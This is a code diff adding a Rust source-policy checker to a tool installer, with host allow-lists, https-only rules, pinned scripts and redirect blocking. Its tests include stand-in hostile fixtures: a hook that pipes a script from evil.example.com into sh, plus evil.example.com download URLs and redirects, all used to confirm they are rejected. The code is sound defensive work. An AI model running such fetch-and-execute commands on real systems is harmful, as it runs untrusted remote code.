@@ -0,0 +1,297 @@
+use anyhow::Result;
+use lazy_static::lazy_static;
+use regex::Regex;
+use reqwest::{redirect, Client, Url};
+use serde::Deserialize;
+use std::{collections::BTreeMap, fs, path::PathBuf, sync::Arc};
+
+use crate::{utils::get_config_dir, InstallationDetailItem, LockedTool, ManifestHooks, Type};
+
+lazy_static! {
+    static ref URL_REGEX: Regex = Regex::new(r#"[A-Za-z][A-Za-z0-9+.-]*://[^\s'"|;&()<>`]+"#).unwrap();
+}
+
+/// The maximum number of redirects followed by a download, like the default policy of reqwest.
+const MAX_REDIRECTS: usize = 10;
+
+/// The local policy of which sources may be installed from, read from `<config dir>/policy.toml`.
+#[derive(Debug, Default, Deserialize)]
+#[serde(deny_unknown_fields)]
+pub struct SourcePolicy {
+    /// Reject every url which is not `https://`.
+    #[serde(default)]
+    pub https_only: bool,
+    /// The hosts which may be downloaded from, e.g. `github.com` or `*.githubusercontent.com`. Every host is allowed
+    /// when it is empty.
+    #[serde(default)]
+    pub allowed_hosts: Vec<String>,
+    /// Reject shell installations which run a `source` command instead of a pinned `script`.
+    #[serde(default)]
+    pub require_pinned_scripts: bool,
+}
+
+pub fn get_source_policy_path() -> PathBuf {
+    get_config_dir().join("policy.toml")
+}
+
+/// Loads the source policy, or `None` when there is no policy file.
+pub fn load_source_policy() -> Result<Option<SourcePolicy>> {
+    let path = get_source_policy_path();
+    if !path.exists() {
+        return Ok(None);
+    }
+    let content = fs::read_to_string(&path)?;
+    let policy = toml::from_str(&content)
+        .map_err(|err| anyhow::anyhow!("Invalid source policy '{}'. Error: {}", path.display(), err))?;
+    Ok(Some(policy))
+}
+
+/// Checks the sources, scripts and the urls in the shell commands of the installations, including their fallbacks,
+/// and the urls in the manifest hooks.
+pub fn check_source_policy(
+    items: &[InstallationDetailItem],
+    hooks: &ManifestHooks,
+    policy: &SourcePolicy,
+) -> Result<()> {
+    let mut violations = vec![];
+    for (name, steps) in hooks.iter() {
+        for url in steps.commands().into_iter().flat_map(find_urls) {
+            if let Err(reason) = check_url(url, policy) {
+                violations.push(format!("hooks.{}: {}", name, reason));
+            }
+        }
+    }
+    for item in items.iter().flat_map(|item| item.candidates()) {
+        let mut urls = vec![];
+        match (&item.script, item.r#type) {
+            (Some(script), _) => urls.push(script.url.as_str()),
+            (None, Type::Shell) => {
+                if policy.require_pinned_scripts {
+                    violations.push(format!(
+                        "{} ({}): shell commands are not allowed, use a `script` pinned by its sha256",
+                        item.name, item.r#type
+                    ));
+                }
+                urls.extend(find_urls(&item.source));
+            }
+            (None, _) => urls.push(item.source.as_str()),
+        }
+        for steps in item.pre_install.iter().chain(item.post_install.iter()) {
+            urls.extend(steps.commands().into_iter().flat_map(find_urls));
+        }
+
+        for url in urls {
+            if let Err(reason) = check_url(url, policy) {
+                violations.push(format!("{} ({}): {}", item.name, item.r#type, reason));
+            }
+        }
+    }
+
+    if violations.is_empty() {
+        Ok(())
+    } else {
+        Err(anyhow::anyhow!(
+            "The manifest violates the source policy '{}':\n  {}",
+            get_source_policy_path().display(),
+            violations.join("\n  ")
+        ))
+    }
+}
+
+/// Checks the urls of the lockfile, which are downloaded instead of the sources of the manifest with
+/// `install --locked`.
+pub fn check_locked_urls(locked_tools: &BTreeMap<String, LockedTool>, policy: &SourcePolicy) -> Result<()> {
+    let violations = locked_tools
+        .iter()
+        .filter_map(|(name, locked_tool)| {
+            let url = locked_tool.url.as_deref()?;
+            check_url(url, policy)
+                .err()
+                .map(|reason| format!("{} ({}): {}", name, locked_tool.r#type, reason))
+        })
+        .collect::<Vec<_>>();
+    if violations.is_empty() {
+        Ok(())
+    } else {
+        Err(anyhow::anyhow!(
+            "The lockfile violates the source policy '{}':\n  {}",
+            get_source_policy_path().display(),
+            violations.join("\n  ")
+        ))
+    }
+}
+
+/// Creates the client of the downloads, which refuses to follow a redirect to a url violating the source policy.
+pub fn create_http_client(policy: Option<Arc<SourcePolicy>>) -> Client {
+    let Some(policy) = policy else {
+        return Client::new();
+    };
+    let redirect_policy = redirect::Policy::custom(move |attempt| {
+        if attempt.previous().len() >= MAX_REDIRECTS {
+            return attempt.error("too many redirects");
+        }
+        match check_url(attempt.url().as_str(), &policy) {
+            Ok(()) => attempt.follow(),
+            Err(reason) => attempt.error(format!("redirected in violation of the source policy: {}", reason)),
+        }
+    });
+    Client::builder().redirect(redirect_policy).build().unwrap_or_default()
+}
+
+fn find_urls(command: &str) -> Vec<&str> {
+    URL_REGEX.find_iter(command).map(|url| url.as_str()).collect()
+}
+
+fn check_url(url: &str, policy: &SourcePolicy) -> Result<(), String> {
+    let parsed_url = Url::parse(url).map_err(|err| format!("invalid url '{}': {}", url, err))?;
+    if policy.https_only && parsed_url.scheme() != "https" {
+        return Err(format!("'{}' is not an https url", url));
+    }
+    let host = parsed_url.host_str().unwrap_or_default();
+    if !policy.allowed_hosts.is_empty()
+        && !policy
+            .allowed_hosts
+            .iter()
+            .any(|allowed_host| is_host_allowed(host, allowed_host))
+    {
+        return Err(format!("the host of '{}' is not allowed", url));
+    }
+    Ok(())
+}
+
+// `*.example.com` allows the subdomains of `example.com`, but not `example.com` itself. Host names are case-insensitive
+fn is_host_allowed(host: &str, allowed_host: &str) -> bool {
+    let host = host.to_ascii_lowercase();
+    let allowed_host = allowed_host.to_ascii_lowercase();
+    match allowed_host.strip_prefix("*.") {
+        Some(domain) => host
+            .strip_suffix(domain)
+            .is_some_and(|subdomain| subdomain.ends_with('.')),
+        None => host == allowed_host,
+    }
+}
+
+#[cfg(test)]
+mod test_policy {
+    use super::*;
+    use crate::{installation::filter_tool_installation_detail, CommandSteps, ToolInstallationManifest};
+    use std::env;
+
+    fn create_items(installations: serde_json::Value) -> Vec<InstallationDetailItem> {
+        let tools: Vec<ToolInstallationManifest> = serde_json::from_value(serde_json::json!([
+            { "name": "fnm", "installations": installations }
+        ]))
+        .unwrap();
+        filter_tool_installation_detail(&tools).unwrap()
+    }
+
+    #[test]
+    fn test_check_source_policy() {
+        let os = env::consts::OS;
+        let items = create_items(serde_json::json!([
+            { "os": os, "type": "shell", "id": "fnm", "source": "curl -fsSL http://fnm.vercel.app/install | bash" },
+            { "os": os, "type": "zip", "id": "fnm", "source": "https://evil.example.com/fnm.zip" },
+            {
+                "os": os,
+                "type": "shell",
+                "id": "fnm",
+                "script": {
+                    "url": "https://raw.githubusercontent.com/Schniz/fnm/master/.ci/install.sh",
+                    "sha256": "2cf24dba5fb0a30e26e83b2ac5b9e29e1b161e5c1fa7425e73043362938b9824"
+                }
+            }
+        ]));
+        let policy = SourcePolicy {
+            https_only: true,
+            allowed_hosts: vec!["fnm.vercel.app".to_string(), "*.githubusercontent.com".to_string()],
+            require_pinned_scripts: true,
+        };
+        let hooks = ManifestHooks {
+            before_all: None,
+            after_all: Some(CommandSteps::Command(
+                "curl -fsSL https://evil.example.com/notes.sh | sh".to_string(),
+            )),
+        };
+        let err = check_source_policy(&items, &hooks, &policy).unwrap_err().to_string();
+        let violations = err.lines().skip(1).map(str::trim).collect::<Vec<_>>();
+        assert_eq!(
+            violations,
+            vec![
+                "hooks.afterAll: the host of 'https://evil.example.com/notes.sh' is not allowed",
+                "fnm (shell): shell commands are not allowed, use a `script` pinned by its sha256",
+                "fnm (shell): 'http://fnm.vercel.app/install' is not an https url",
+                "fnm (zip): the host of 'https://evil.example.com/fnm.zip' is not allowed",
+            ]
+        );
+
+        assert!(check_source_policy(&items, &hooks, &SourcePolicy::default()).is_ok());
+    }
+
+    #[test]
+    fn test_is_host_allowed() {
+        assert!(is_host_allowed("raw.githubusercontent.com", "*.githubusercontent.com"));
+        assert!(!is_host_allowed("githubusercontent.com", "*.githubusercontent.com"));
+        assert!(!is_host_allowed("evilgithubusercontent.com", "*.githubusercontent.com"));
+        assert!(is_host_allowed("GitHub.com", "github.com"));
+        assert!(is_host_allowed("Raw.GitHubUserContent.com", "*.githubusercontent.com"));
+        assert!(is_host_allowed("raw.githubusercontent.com", "*.GitHubUserContent.com"));
+    }
+
+    #[test]
+    fn test_check_locked_urls() {
+        let policy = SourcePolicy {
+            allowed_hosts: vec!["*.githubusercontent.com".to_string()],
+            ..Default::default()
+        };
+        let locked_tools: BTreeMap<String, LockedTool> = serde_json::from_value(serde_json::json!({
+            "fnm": { "type": "shell", "url": "https://raw.githubusercontent.com/Schniz/fnm/master/.ci/install.sh" },
+            "Visual Studio Code": { "type": "zip", "url": "https://evil.example.com/code.zip" },
+            "nvm": { "type": "shell" }
+        }))
+        .unwrap();
+        let err = check_locked_urls(&locked_tools, &policy).unwrap_err().to_string();
+        let violations = err.lines().skip(1).map(str::trim).collect::<Vec<_>>();
+        assert_eq!(
+            violations,
+            vec!["Visual Studio Code (zip): the host of 'https://evil.example.com/code.zip' is not allowed"]
+        );
+    }
+
+    #[tokio::test]
+    async fn test_refuse_redirect_violating_policy() {
+        use std::{
+            io::{BufRead, BufReader, Write},
+            net::TcpListener,
+            thread,
+        };
+
+        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+        let url = format!("http://{}/fnm.zip", listener.local_addr().unwrap());
+        thread::spawn(move || {
+            let mut stream = listener.incoming().next().unwrap().unwrap();
+            for line in BufReader::new(&stream).lines() {
+                if line.unwrap().is_empty() {
+                    break;
+                }
+            }
+            stream
+                .write_all(
+                    b"HTTP/1.1 302 Found\r\nLocation: http://evil.example.com/fnm.zip\r\nConnection: close\r\n\r\n",
+                )
+                .unwrap();
+        });
+        let policy = SourcePolicy {
+            allowed_hosts: vec!["127.0.0.1".to_string()],
+            ..Default::default()
+        };
+
+        let client = create_http_client(Some(Arc::new(policy)));
+        let err = client.get(&url).send().await.unwrap_err();
+        assert!(err.is_redirect(), "{}", err);
+        assert!(
+            format!("{:?}", err).contains("the host of 'http://evil.example.com/fnm.zip' is not allowed"),
+            "{:?}",
+            err
+        );
+    }
+}